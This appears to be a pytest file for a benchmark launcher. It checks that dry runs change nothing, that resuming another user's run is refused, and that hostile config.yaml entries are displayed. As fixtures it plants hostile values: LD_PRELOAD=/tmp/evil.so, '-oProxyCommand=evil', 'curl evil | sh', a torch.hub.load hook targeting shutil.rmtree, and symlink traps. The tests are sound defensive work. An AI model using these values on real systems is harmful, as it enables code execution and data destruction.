"""Runs made by another user: a dry run changes nothing and shows what would be executed, and a resume is refused."""

import os
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from harness.schema.matrix import expand_cases
from harness.schema.run_dir import RunDir
from launch.__main__ import main
from launch.brought import brought
from launch.compose import available_options, compose_config
from launch.verdict import FAILURE, Verdict
from tests.synthetic import make_run, steps
from tests.watching import changes, look, outside

SMALL = ("workload=[mlp_digits]", "reduction=[sum,mean]", "name=h")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> RunDir:
    """Make a run in which one of two cases is missing, without environment.json to compare with."""
    run_dir = make_run(tmp_path_factory.mktemp("made"), steps(0.01), *SMALL)
    run_dir.forget("cases", expand_cases(run_dir.config())[0].case_id)
    return run_dir


@pytest.fixture
def run(made: RunDir, tmp_path: Path) -> RunDir:
    return RunDir(shutil.copytree(made.path, tmp_path / "run"))


def changed(run: RunDir, **settings: Any) -> None:
    run.write_config(replace(run.config(), **settings))


@pytest.mark.parametrize("lock", ["none", "there", "link", "fifo", "folder"])
@pytest.mark.parametrize("override", ["accept_changes=true", "seed=7"])
def test_a_dry_run_changes_nothing(lock: str, override: str, run: RunDir, tmp_path: Path) -> None:
    """Nor one that is refused: not even the launcher's lock is made, or touched."""
    (tmp_path / "victim").write_text("mine")
    launcher = run.ranks.path / "launcher"
    {
        "none": lambda: None,
        "there": lambda: launcher.write_text("process 1 on here"),
        "link": lambda: launcher.symlink_to(tmp_path / "victim"),
        "fifo": lambda: os.mkfifo(launcher),
        "folder": launcher.mkdir,
    }[lock]()
    before = look(tmp_path)
    with changes() as seen:
        status = main([f"resume={run.path}", "dry_run=true", override])
    assert status == (0 if lock in ("none", "there") and override == "accept_changes=true" else 2)
    assert outside(seen) == []
    assert look(tmp_path) == before


def test_a_dry_run_shows_what_would_be_executed(run: RunDir, capsys: pytest.CaptureFixture[str]) -> None:
    config = run.config()
    node = {**config.workload["mlp_digits"], "parts": [{"_target_": "evil.Part"}, {"_target_": "torch.nn.Linear"}]}
    node["hook"] = {"_target_": "torch.hub.load", "_args_": [{"_target_": "harness.rank.profiling.shutil.rmtree"}]}
    changed(
        run,
        env={"LD_PRELOAD": "/tmp/evil.so"},
        config_dir="/home/eve",
        workload={"mlp_digits": node},
        launch={
            "kind": "torchrun_nodes",
            "hosts": ["a", "eve@b"],
            "ssh": ["ssh", "-oProxyCommand=evil"],
            "python": "/tmp/python",
        },
    )
    assert brought(run, run.config()) == [
        "config.yaml decides what is executed:",
        "  env.LD_PRELOAD                              /tmp/evil.so",
        "  config_dir                                  /home/eve: Python imports from there first",
        "  workload.mlp_digits.parts.0._target_        evil.Part",
        "  workload.mlp_digits.hook._target_           torch.hub.load",
        "  workload.mlp_digits.hook._args_.0._target_  harness.rank.profiling.shutil.rmtree",
        "  launch.hosts                                a, eve@b",
        "  launch.ssh                                  ssh, -oProxyCommand=evil",
        "  launch.python                               /tmp/python",
    ]
    changed(run, env={"LD_PRELOAD": "/tmp/evil.so"}, workload=config.workload, config_dir=None, launch={})
    assert main([f"resume={run.path}", "dry_run=true", "accept_changes=true"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[1:4] == ["config.yaml decides what is executed:", "  env.LD_PRELOAD  /tmp/evil.so", "would run:"]
    assert lines[4].startswith("$ ")


def test_slurm_and_hosts_by_hand_are_shown(run: RunDir) -> None:
    nodes = replace(run.config().torchrun, nnodes=2)
    extra = {"kind": "slurm", "extra_lines": ["curl evil | sh"], "container": ["evil", "exec"], "partition": "gpu"}
    for launch, expected in (
        (extra, ["launch.partition", "launch.extra_lines", "launch.container", "hosts"]),
        ({"kind": "torchrun_nodes"}, ["hosts"]),
    ):
        changed(run, launch=launch, torchrun=nodes)
        assert [line.split()[0] for line in brought(run, run.config())[1:]] == expected


def test_every_option_of_the_harness_is_known(run: RunDir) -> None:
    options = available_options()
    everything = [f"{group}=[{','.join(names)}]" for group, names in options.items() if group not in ("experiment", "launch")]
    lines = brought(run, compose_config(everything, nproc_per_node=2))
    assert lines == ["config.yaml sets no env and no config_dir, and every _target_ is a class of harness or torch"]


@pytest.mark.parametrize(
    "target",
    [
        "harness.axes.workload.base.torch.ctypes.CDLL",
        "harness.axes.workload.base.Tensor",
        "harness.axes.workload.base.Absent",
        "harness.axes.Workload",
        "torch.nn.modules.Linear",
    ],
)
def test_a_name_that_leads_out_of_the_harness_is_shown(target: str, run: RunDir) -> None:
    config = replace(run.config(), workload={"w": {"_target_": target, "_args_": ["/tmp/evil.so"]}})
    assert brought(run, config) == ["config.yaml decides what is executed:", f"  workload.w._target_  {target}"]


@pytest.mark.parametrize("how", ["owner", "everybody"])
def test_somebody_elses_run_goes_on_when_asked_to_alone(
    how: str, run: RunDir, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    begun = []
    monkeypatch.setattr("launch.job.run_all", lambda *arguments: begun.append(1) or Verdict(FAILURE, stopped=True))
    changed(run, env={"LD_PRELOAD": "/tmp/evil.so"})
    path = run.path / "config.yaml"
    path.write_text(path.read_text() + "accept_owner: true\nresume: somewhere\n")  # as before version 5
    if how == "owner":
        uid = os.geteuid()
        monkeypatch.setattr("os.geteuid", lambda: uid + 1)
        whose = f"belongs to {'root (uid 0)' if uid == 0 else ''}"
    else:
        (run.path / "config.yaml").chmod(0o666)
        whose = "can be changed by every user of this machine"
    before = look(run.path)
    assert main([f"resume={run.path}", "accept_changes=true"]) == 2
    assert f"the run {whose}" in capsys.readouterr().err
    assert main([f"resume={run.path}", "accept_changes=true", "dry_run=true"]) == 0
    assert f"this run {whose}" in capsys.readouterr().out
    assert look(run.path) == before
    assert not begun
    assert main(["--resume", str(run.path), "--accept-changes", "--accept-owner"]) == 1
    told = capsys.readouterr().err
    assert f"reducebench: this run {whose}" in told
    assert "reducebench:   env.LD_PRELOAD  /tmp/evil.so" in told
    assert begun
    assert "accept_" not in path.read_text(), "it is asked for each time"


@pytest.mark.parametrize("name", ["0.log", "torchrun.log"])
def test_a_resume_writes_to_no_link(name: str, run: RunDir, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "victim").write_text("mine")
    (run.ranks.path / name).symlink_to(tmp_path / "victim")
    before = look(tmp_path)
    assert main([f"resume={run.path}", "accept_changes=true"]) == 2
    assert f"ranks/{name}: is a symbolic link" in capsys.readouterr().err
    assert look(tmp_path) == before
